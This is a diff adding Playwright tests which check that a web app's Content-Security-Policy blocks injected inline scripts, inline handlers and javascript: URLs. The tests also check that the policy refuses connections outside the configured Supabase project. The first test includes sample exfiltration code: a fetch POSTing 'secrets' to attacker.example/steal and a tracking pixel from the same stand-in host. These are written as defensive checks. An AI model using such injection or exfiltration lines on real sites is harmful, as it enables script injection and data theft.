@@ -1,0 +1,97 @@
+import type { Page } from '@playwright/test';
+import { expect, test, type CspViolation } from './csp-test';
+
+const describe = (v: CspViolation) => `${v.directive} ${v.blocked}`;
+
+/**
+ * Waits until the page has reported `expected` (each policy that refuses reports once), then takes every
+ * violation out of the list the fixture checks and returns the distinct ones.
+ */
+async function taken(violations: CspViolation[], expected: string[]): Promise<string[]> {
+  const distinct = () => [...new Set(violations.map(describe))].sort();
+  await expect.poll(distinct).toEqual(expect.arrayContaining(expected));
+  await new Promise((r) => setTimeout(r, 300));
+  const seen = distinct();
+  violations.splice(0, violations.length);
+  return seen;
+}
+
+async function policies(page: Page): Promise<string[]> {
+  return page.locator('meta[http-equiv="Content-Security-Policy"]').evaluateAll((metas) => metas.map((m) => m.getAttribute('content') ?? ''));
+}
+
+test('the built app carries a strict policy: injected scripts do not run, other origins are refused', async ({ page, cspViolations }) => {
+  await page.goto('/');
+  await expect(page.getByRole('heading', { name: 'No albums yet' })).toBeVisible();
+
+  const [built, ...rest] = await policies(page);
+  expect(built).toContain("script-src 'self' 'wasm-unsafe-eval';");
+  expect(built).toContain("object-src 'none'");
+  expect(built).toContain("base-uri 'none'");
+  // On the local backend (no config.json) the app narrows connections to itself.
+  expect(rest.some((p) => /connect-src 'self';/.test(p))).toBe(true);
+
+  // An injected inline script, an inline handler and a javascript: URL never run.
+  const ran = await page.evaluate(async () => {
+    const w = window as unknown as { injected?: boolean; handler?: boolean; jsUrl?: boolean };
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.body.append(script);
+    const img = document.createElement('img');
+    img.setAttribute('onerror', 'window.handler = true');
+    img.src = 'data:,not-an-image';
+    document.body.append(img);
+    const a = document.createElement('a');
+    a.href = 'javascript:window.jsUrl = true';
+    document.body.append(a);
+    a.click();
+    await new Promise((r) => setTimeout(r, 300));
+    img.remove();
+    a.remove();
+    return { injected: w.injected === true, handler: w.handler === true, jsUrl: w.jsUrl === true };
+  });
+  expect(ran).toEqual({ injected: false, handler: false, jsUrl: false });
+
+  // A connection and an image to an origin that is not the backend are refused before they leave.
+  const fetched = await page.evaluate(async () => {
+    const img = new Image();
+    img.src = 'https://attacker.example/pixel.png';
+    try {
+      await fetch('https://attacker.example/steal', { method: 'POST', body: 'secrets' });
+      return 'sent';
+    } catch (e) {
+      return (e as Error).name;
+    }
+  });
+  expect(fetched).toBe('TypeError');
+
+  const expected = ['connect-src https://attacker.example/steal', 'img-src https://attacker.example/pixel.png', 'script-src-attr inline', 'script-src-elem inline'];
+  expect(await taken(cspViolations, expected)).toEqual(expected);
+});
+
+const PROJECT = 'https://demo-project.supabase.co';
+const b64url = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
+const ANON_KEY = `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ role: 'anon', iss: 'supabase' })}.c2ln`;
+
+test('with config.json naming a Supabase project, the page reaches that project and nothing else', async ({ page, cspViolations }) => {
+  await page.route('**/config.json', (route) => route.fulfill({ json: { supabaseUrl: PROJECT, supabaseAnonKey: ANON_KEY } }));
+  const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' };
+  await page.route(`${PROJECT}/**`, (route) => route.fulfill({ status: route.request().method() === 'OPTIONS' ? 204 : 200, headers: cors, json: {} }));
+  await page.goto('/');
+  await expect(page.getByRole('heading', { name: 'Sign in to Shoebox' })).toBeVisible();
+
+  const narrowed = (await policies(page)).at(-1) ?? '';
+  expect(narrowed).toContain(`connect-src 'self' ${PROJECT} wss://demo-project.supabase.co;`);
+
+  const results = await page.evaluate(async (project) => {
+    const attempt = (url: string) => fetch(url).then(() => 'ok', (e: Error) => e.name);
+    return {
+      project: await attempt(`${project}/auth/v1/health`),
+      otherProject: await attempt('https://other-project.supabase.co/auth/v1/health'),
+      plainHttp: await attempt('http://demo-project.supabase.co/auth/v1/health'),
+    };
+  }, PROJECT);
+  expect(results).toEqual({ project: 'ok', otherProject: 'TypeError', plainHttp: 'TypeError' });
+  const expected = ['connect-src http://demo-project.supabase.co/auth/v1/health', 'connect-src https://other-project.supabase.co/auth/v1/health'];
+  expect(await taken(cspViolations, expected)).toEqual(expected);
+});
